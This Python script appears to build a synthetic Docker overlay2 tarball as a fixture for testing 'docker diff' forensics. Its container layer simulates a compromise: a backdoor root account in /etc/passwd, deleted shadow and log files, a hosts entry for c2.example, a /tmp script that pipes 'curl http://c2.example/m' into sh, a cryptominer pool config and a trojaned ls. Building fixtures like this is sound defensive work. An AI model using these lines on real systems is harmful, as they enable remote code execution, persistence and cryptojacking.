#!/usr/bin/env python3
"""make-overlay2.py OUT.tar: a small Docker runtime root (overlay2) whose
container layer uses every overlay mechanism docker diff reads: a
modified file, whiteouts (character devices 0/0) of a file and of a log,
an opaque directory (trusted.overlay.opaque=y as a pax xattr) with a new
file under it, a new directory with a new executable, a file of the init
layer changed, and a hard link in an image layer. Two image layers
(diff ids sha256:d1..., sha256:d2...), an init layer, a container
(config.v2.json, hostconfig.json: privileged). The changes docker diff
prints for it, by moby's pkg/archive rules, are in overlay2.expected."""
import io, sys, tarfile

R = "var/lib/docker/"
CID = "c0ffee" * 10 + "c0ff"
T0 = 1700000000
out = tarfile.open(sys.argv[1], "w", format=tarfile.PAX_FORMAT)


def add(name, data=None, kind="file", mode=0o644, link="", dev=(0, 0), pax=None):
    ti = tarfile.TarInfo(R + name)
    ti.mtime = T0
    ti.mode = mode
    if kind == "dir":
        ti.type = tarfile.DIRTYPE
        ti.mode = mode if mode != 0o644 else 0o755
    elif kind == "char":
        ti.type = tarfile.CHRTYPE
        ti.devmajor, ti.devminor = dev
        ti.mode = 0
    elif kind == "hard":
        ti.type = tarfile.LNKTYPE
        ti.linkname = R + link
    elif kind == "sym":
        ti.type = tarfile.SYMTYPE
        ti.linkname = link
    if pax:
        ti.pax_headers = pax
    if data is not None:
        ti.size = len(data)
        out.addfile(ti, io.BytesIO(data))
    else:
        out.addfile(ti)


def small(name, text):
    add(name, text.encode())


small("containers/%s/config.v2.json" % CID,
      '{"ID": "%s", "Name": "/evil", "Image": "sha256:%s", '
      '"Config": {"Image": "alpine:3.18", "Hostname": "evil"}, '
      '"State": {"Running": true, "Pid": 4242}, "MountPoints": {}}' % (CID, "ab" * 32))
small("containers/%s/hostconfig.json" % CID, '{"Privileged": true}')
small("image/overlay2/layerdb/mounts/%s/mount-id" % CID, "rwdir")
small("image/overlay2/layerdb/mounts/%s/init-id" % CID, "rwdir-init")
small("image/overlay2/layerdb/mounts/%s/parent" % CID, "sha256:" + "c2" * 32)
small("image/overlay2/layerdb/sha256/%s/cache-id" % ("c2" * 32), "L2")
small("image/overlay2/layerdb/sha256/%s/diff" % ("c2" * 32), "sha256:" + "d2" * 32)
small("image/overlay2/layerdb/sha256/%s/parent" % ("c2" * 32), "sha256:" + "c1" * 32)
small("image/overlay2/layerdb/sha256/%s/cache-id" % ("c1" * 32), "L1")
small("image/overlay2/layerdb/sha256/%s/diff" % ("c1" * 32), "sha256:" + "d1" * 32)
L1 = "overlay2/L1/diff/"
add(L1, kind="dir")
add(L1 + "etc", kind="dir")
add(L1 + "etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")
add(L1 + "etc/shadow", b"root:*:19000:0:::::\n", mode=0o640)
add(L1 + "bin", kind="dir")
add(L1 + "bin/sh", b"\x7fELF-not-really-a-shell\n", mode=0o755)
add(L1 + "bin/ls", kind="hard", link=L1 + "bin/sh", mode=0o755)
add(L1 + "var", kind="dir")
add(L1 + "var/log", kind="dir")
add(L1 + "var/log/app.log", b"started\n")
add(L1 + "opt", kind="dir")
add(L1 + "opt/a", b"a\n")
add(L1 + "opt/b", b"b\n")
L2 = "overlay2/L2/diff/"
add(L2, kind="dir")
add(L2 + "etc", kind="dir")
add(L2 + "etc/motd", b"welcome\n")
add(L2 + "opt", kind="dir")
add(L2 + "opt/c", b"c\n")
add(L2 + "usr", kind="dir")
add(L2 + "usr/x", b"x\n")
add("overlay2/L2/link", b"ABCDEF")
I = "overlay2/rwdir-init/diff/"
add(I, kind="dir")
add(I + "etc", kind="dir")
add(I + "etc/hosts", b"127.0.0.1 localhost\n", mode=0o755)
add(I + ".dockerenv", b"", mode=0o755)
W = "overlay2/rwdir/diff/"
add(W, kind="dir")
add(W + "etc", kind="dir")
add(W + "etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nevil:x:0:0::/:/bin/sh\n")
add(W + "etc/shadow", kind="char")
add(W + "etc/hosts", b"127.0.0.1 localhost\n10.0.0.66 c2.example\n", mode=0o755)
add(W + "var", kind="dir")
add(W + "var/log", kind="dir")
add(W + "var/log/app.log", kind="char")
add(W + "opt", kind="dir", pax={"SCHILY.xattr.trusted.overlay.opaque": "y"})
add(W + "opt/new", b"new\n")
add(W + "tmp", kind="dir", mode=0o1777)
add(W + "tmp/x", b"#!/bin/sh\ncurl http://c2.example/m | sh\n", mode=0o755)
add(W + "tmp/.cfg.json", b'{"donate-level": 1, "pools": [{"url": '
    b'"stratum+tcp://pool.example.net:3333", "algo": "rx/0"}]}\n')
add(W + "bin", kind="dir")
add(W + "bin/ls", b"trojaned ls\n", mode=0o755)
add("overlay2/rwdir/merged/etc/passwd", b"a mounted view: never read\n")
out.close()
